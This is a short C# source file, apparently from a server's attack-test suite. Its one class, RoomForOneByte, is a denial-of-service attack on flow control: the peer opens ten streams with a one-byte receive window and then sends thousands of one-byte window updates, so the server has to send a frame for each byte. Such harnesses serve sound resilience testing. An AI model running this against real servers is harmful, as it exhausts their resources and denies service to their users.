using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Frames;

/// <summary>Takes replies one byte at a time: each byte costs the server a frame.</summary>
internal sealed class RoomForOneByte : Attack
{
    public override Attacker By => Attacker.Peer;

    public override async Task RunAsync(Target target)
    {
        Peer peer = await target.PeerAsync(receiveWindowBytes: 1);
        int[] streams = await Task.WhenAll(Enumerable.Range(0, 10).Select(_ => peer.OpenAsync()));
        await Task.WhenAll(streams.Select(stream => peer.SendAsync(stream, Requests.RequestHeaders(endOfStream: true).Framed())));
        for (int i = 0; i < target.Count(200, 20_000) && !peer.Gone; i++)
        {
            await peer.WriteAsync(streams.SelectMany(stream => Peer.WindowUpdate(stream, 1)).ToArray());
        }
    }
}
